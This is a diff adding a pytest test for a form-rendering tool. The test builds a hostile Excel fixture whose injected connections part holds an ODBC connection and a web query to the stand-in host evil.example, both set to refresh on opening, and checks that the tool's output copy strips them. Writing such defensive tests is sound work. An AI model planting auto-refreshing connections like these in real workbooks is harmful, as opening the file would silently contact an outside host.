@@ -7,10 +7,15 @@ from __future__ import annotations
 
 import csv
 import io
+import zipfile
+from pathlib import Path
 
 import pytest
 from helpers import kesu, python_process
 from hostile import complaint, write_json
+
+ROOT = Path(__file__).resolve().parents[1]
+SAMPLE = ROOT / "samples" / "complaint-valid.xlsx"
 
 
 # ------------------------------------------------------------ a value starting like a formula
@@ -71,3 +76,50 @@ def test_a_language_kesu_does_not_know_is_said_once_by_a_command_whose_workers_a
     assert done.returncode in (1, 2) and "Traceback" not in done.stderr, done.stderr[-2000:]
     assert done.stderr.count("is no language kesu knows") == 1, done.stderr[-2000:]
     assert len(list((tmp_path / "out").glob("*.docx"))) == 6
+
+
+# ---------------------------------------------------------------------- a workbook's data connections
+_CONNECTIONS = b"""<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
+<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><connection id="1"
+ name="prices" type="1" refreshedVersion="6" refreshOnLoad="1" saveData="1"><dbPr
+ connection="DSN=plant;UID=clerk;SERVER=evil.example" command="SELECT * FROM prices"/></connection>
+<connection id="2" name="web" type="4" refreshOnLoad="1"><webPr url="http://evil.example/q"
+ sourceData="1"/></connection></connections>"""
+
+
+def _connected(path: Path) -> Path:
+    """The sample form with an ODBC and a web query Excel refreshes as it opens the file."""
+    with zipfile.ZipFile(SAMPLE) as source, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
+        for member in source.infolist():
+            data = source.read(member)
+            if member.filename == "[Content_Types].xml":
+                data = data.replace(
+                    b"</Types>",
+                    b'<Override PartName="/xl/connections.xml" ContentType="application/'
+                    b'vnd.openxmlformats-officedocument.spreadsheetml.connections+xml"/></Types>',
+                )
+            elif member.filename == "xl/_rels/workbook.xml.rels":
+                data = data.replace(
+                    b"</Relationships>",
+                    b'<Relationship Id="rIdC1" Type="http://schemas.openxmlformats.org/officeDocument/'
+                    b'2006/relationships/connections" Target="connections.xml"/></Relationships>',
+                )
+            out.writestr(member, data)
+        out.writestr("xl/connections.xml", _CONNECTIONS)
+    return path
+
+
+@pytest.mark.parametrize(
+    ("lang", "said"), [("zh", "数据连接（xl/connections.xml"), ("en", "data connections")]
+)
+def test_a_workbooks_data_connections_are_not_in_the_working_copy_and_said(tmp_path, lang, said):
+    """A form holding an ODBC connection and a web query refreshed on opening: the numbered
+    working copy QA opens carried none (openpyxl writes none) without a word."""
+    _connected(tmp_path / "form.xlsx")
+    done = kesu("--lang", lang, "render", "form.xlsx", "-o", "out", "--db", "k.db", cwd=tmp_path)
+    assert done.exit_code == 0, done.output
+    assert said in " ".join(done.output.split()).replace("（ ", "（"), done.output
+    (copy,) = (tmp_path / "out").glob("*.xlsx")
+    with zipfile.ZipFile(copy) as made:
+        assert not any("connection" in n.lower() for n in made.namelist())
+        assert b"evil.example" not in b"".join(made.read(n) for n in made.namelist())
